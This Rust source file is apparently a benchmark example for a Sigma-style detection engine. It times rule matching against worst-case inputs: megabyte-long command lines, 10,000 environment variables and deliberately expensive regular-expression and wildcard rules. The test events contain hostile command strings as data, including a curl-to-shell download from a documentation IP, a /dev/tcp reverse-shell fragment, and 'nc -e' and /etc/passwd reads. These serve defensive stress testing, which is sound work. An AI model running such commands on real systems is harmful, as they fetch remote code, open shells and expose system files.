//! What the worst event costs that we know to make: a command line of 1 MB and 10,000 values of environment, against the rules of a
//! folder, and against rules that are made to be dear with it. Says the time and what was cut:
//! `cargo run --release --example adversarial -- [--json] RULES`.

use std::path::Path;
use std::time::Instant;

use serde_json::{json, Value as Json};
use watertight_content::sigma::{load_dir, load_texts, JsonEvent, Library, Slots, Source};
use watertight_engine::{Image, LogSource, Scratch};

/// Rules that are made to be dear, of each kind.
const RULES: usize = 60;

/// Of each event, after one that warms up.
const ROUNDS: usize = 21;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let (options, args): (Vec<String>, Vec<String>) = std::env::args().skip(1).partition(|arg| arg == "--json");
    let (is_json, rules) = (!options.is_empty(), args.first().ok_or("name a folder with rules")?);
    measure(load_dir(Path::new(rules)), events(), is_json)?;
    for (name, selections, line) in dear() {
        let rules: Vec<String> = (0..).zip(selections).map(|(number, selection)| rule(number, &selection)).collect();
        let text = rules.join("---\n");
        let event = json!({ "CommandLine": line, "Image": line });
        measure(load_texts([Source { file: name, text: &text }]), vec![(name, event)], is_json)?;
    }
    Ok(())
}

fn measure(mut library: Library, events: Vec<(&str, Json)>, is_json: bool) -> Result<(), Box<dyn std::error::Error>> {
    let image = library.image()?;
    let image = Image::open(&image)?;
    let plan = image.plan(&LogSource { category: Some("process_creation"), product: Some("linux"), service: None });
    let (rules, refused) = (image.rules().len(), library.rejections.len());
    eprintln!("{rules} rules, {refused} refused, {} apply", plan.len());
    let slots = Slots::of(&image);
    let mut scratch = Scratch::new();
    for (name, event) in events {
        let event = JsonEvent::new(&event, &slots);
        let mut times_us = Vec::new();
        let (mut limits, mut hits) = Default::default();
        for _ in 0..ROUNDS {
            hits = 0;
            let begin = Instant::now();
            limits = plan.evaluate(&event, &mut scratch, &mut |_| hits += 1);
            times_us.push(begin.elapsed().as_micros());
        }
        times_us.remove(0);
        times_us.sort_unstable();
        let (median, worst) = (times_us[times_us.len() / 2], times_us[times_us.len() - 1]);
        if is_json {
            let cut = limits.cut_values + limits.undecided_rules;
            println!("{}", json!({"name": name, "us": median, "cut": cut}));
        } else {
            println!("{name:<28} median {median:>6} us, worst {worst:>6} us, {hits} hits, {limits:?}");
        }
    }
    Ok(())
}

fn rule(number: usize, selection: &str) -> String {
    format!(
        "title: Dear {number}\nid: 00000000-0000-4000-8000-{number:012}\nlogsource: {{category: process_creation, product: linux}}\n\
         detection:\n  s:\n    {selection}\n  condition: s\nlevel: low\n"
    )
}

/// Rules of each kind that costs work, as many as no event can afford, and the command line that they are dear on.
fn dear() -> Vec<(&'static str, Vec<String>, String)> {
    let line = |text: &str| text.repeat((1 << 20) / text.len());
    let many = |rule: &dyn Fn(usize) -> String| (0..RULES).map(rule).collect::<Vec<_>>();
    vec![
        (
            "threads of an expression",
            vec!["CommandLine|re: '(fo|of|oo){1,20}[a-z]{50,90}x[fo]{3,20}z'".to_owned()],
            line("fo"),
        ),
        ("steps of an expression", vec!["CommandLine|re: '[a-y]{0,200}[b-z]{0,200}[a-x]{200}0'".to_owned()], line("b")),
        ("tables of expressions", many(&|n| format!("CommandLine|re: '[fo]+[a-e]{{{n},99}}0'")), line("fo")),
        (
            "large tables of expressions",
            many(&|n| format!("CommandLine|re: '[ab][a-c]{{{}}}{n}0'", 6 + n % 3)),
            line("abacbbcaacbbbacab"),
        ),
        ("wildcards", many(&|n| format!("CommandLine: '*a{}b*'", "?a".repeat(8 + n))), line("a")),
        ("letters that may be any", many(&|n| format!("CommandLine: '*{}b*'", "?".repeat(100 + n))), line("a")),
        ("numbers", many(&|n| format!("CommandLine|gt: {n}")), line("1")),
    ]
}

/// Events that are dear for any rules.
fn events() -> Vec<(&'static str, Json)> {
    let environment: Vec<String> =
        (0..10_000).map(|number| format!("VARIABLE_{number}=/usr/bin:/bin {number}")).collect();
    let event =
        |line: String| json!({ "Image": "/bin/sh", "CommandLine": line, "Environment": environment, "User": "root" });
    vec![
        ("one letter", event("a".repeat(1 << 20))),
        ("words", event("curl -s http://198.51.100.7/a | sh -c 'chmod 777 /tmp/x' ; ".repeat((1 << 20) / 60))),
        (
            "almost every literal",
            event("/bin/bash -i >& /dev/tcp/ base64 -d wget nc -e /etc/passwd ; ".repeat((1 << 20) / 60)),
        ),
        ("letters beyond ASCII", event("ſK\u{212a}é".repeat((1 << 20) / 8))),
        ("long expression input", event("aaaaaaaaaaaaaaaaaaaaaaaa! ".repeat((1 << 20) / 26))),
    ]
}
